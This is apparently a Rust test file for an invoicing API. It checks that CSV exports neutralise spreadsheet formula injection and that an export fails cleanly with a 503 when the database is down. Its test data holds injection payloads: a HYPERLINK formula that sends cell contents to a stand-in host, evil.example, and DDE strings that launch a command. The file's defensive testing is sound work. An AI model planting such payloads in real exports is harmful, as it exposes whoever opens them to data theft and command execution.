//! An export is opened by somebody else's spreadsheet.

use reqwest::Method;
use serde_json::json;

use crate::support::TestApp;
use crate::support::actor::draft;

#[actix_web::test]
async fn no_cell_of_an_export_is_a_formula_or_becomes_two() {
    let app = TestApp::start().await;
    let alice = app.user("alice").await;
    let names = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "  =1+1",
        "＝1+1",
        "Acme;=1+1",
        "Acme\",=1+1,\"",
        "Acme,=1+1",
    ];
    for name in names {
        let body = json!({"name": name, "default_currency": "EUR"});
        let customer = alice.post("/api/v1/customers", &body).await.ok(201).json()["id"].as_str().unwrap().to_owned();
        alice.post("/api/v1/invoices", &draft(&customer)).await.ok(201);
    }
    let text = alice.get("/api/v1/invoices/export").await.ok(200).text();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), names.len());
    for (record, name) in records.iter().zip(names) {
        let cell = record.get(6).unwrap();
        assert!(cell == name || cell.strip_prefix('\'') == Some(name), "{cell}");
        for cell in record {
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝']), "{cell}");
        }
    }
    // A program that takes semicolons for borders, or knows nothing of quotes inside, still sees one quoted cell.
    assert!(text.contains("\"Acme;=1+1\"") && text.contains("\"Acme\"\",=1+1,\"\"\""), "{text}");
}

/// The head is out only once there is something behind it.
#[actix_web::test]
async fn an_export_without_a_database_is_a_503_and_no_half_file() {
    let app = TestApp::start().await;
    let alice = app.user("alice").await;
    alice.invoice().await;
    app.database.cut_off().await;
    let reply = alice.request(Method::GET, "/api/v1/invoices/export").send().await;
    reply.refused(503, "unavailable");
    assert!(reply.header("retry-after").is_some());
    app.database.restore().await;
}
